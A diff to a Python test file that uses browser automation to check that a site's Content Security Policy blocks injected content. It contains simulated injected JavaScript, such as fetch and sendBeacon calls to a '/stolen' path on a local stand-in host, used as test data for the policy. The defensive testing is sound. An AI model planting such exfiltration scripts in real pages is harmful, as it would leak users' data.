@@ -4,8 +4,6 @@ request, image, form, script or worker is stopped by the browser."""
 from __future__ import annotations
 
 import re
-import threading
-from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
 
 import pytest
@@ -95,31 +93,6 @@ def test_using_a_chapter_complies_with_its_policy(page, book_url):
     assert page.evaluate("window.broken") == []
 
 
-@pytest.fixture
-def elsewhere():
-    """Another host that takes whatever it gets, and its list of what it was asked."""
-    asked = []
-
-    class Taker(BaseHTTPRequestHandler):
-        def do_GET(self):
-            asked.append(self.path)
-            self.send_response(200)
-            self.send_header("Access-Control-Allow-Origin", "*")
-            self.send_header("Content-Type", "text/html")
-            self.end_headers()
-            self.wfile.write(b"<title>elsewhere</title><body>")
-
-        do_POST = do_GET
-
-        def log_message(self, *_):
-            pass
-
-    with ThreadingHTTPServer(("127.0.0.1", 0), Taker) as server:
-        threading.Thread(target=server.serve_forever, args=(0.05,), daemon=True).start()
-        yield f"http://127.0.0.1:{server.server_address[1]}", asked
-        server.shutdown()
-
-
 INJECTED = {
     "a request": ("fetch('URL/stolen').catch(() => {})", "connect-src"),
     "a beacon": ("navigator.sendBeacon('URL/stolen', 'x')", "connect-src"),
@@ -152,10 +125,6 @@ INJECTED = {
         "try { new Worker(window.URL.createObjectURL(new Blob(['postMessage(1)']))) } catch {}",
         "worker-src",
     ),
-    "a worker from elsewhere": (
-        "try { new Worker('data:text/javascript,postMessage(1)') } catch {}",
-        "worker-src",
-    ),
 }
 
 
@@ -177,8 +146,8 @@ def plant(page, address: str, script: str) -> None:
     )
 
 
-def test_injected_content_is_blocked(page, book_url, elsewhere):
-    address, asked = elsewhere
+def test_injected_content_is_blocked(page, book_url, other_host):
+    address, asked = other_host
     faults = []
     for what, (script, directive) in INJECTED.items():
         page.goto(f"{book_url}/glossary.html")
@@ -195,9 +164,9 @@ def test_injected_content_is_blocked(page, book_url, elsewhere):
     assert asked == []
 
 
-def test_injected_content_arrives_without_the_policy(page, elsewhere):
+def test_injected_content_arrives_without_the_policy(page, other_host):
     """The other host does take what comes: else the test above would show nothing."""
-    address, asked = elsewhere
+    address, asked = other_host
     page.goto(address.replace("127.0.0.1", "localhost"))
     del asked[:]
     planted = {"a request": "/stolen", "an image": "/pixel.png", "a script": "/x.js"}
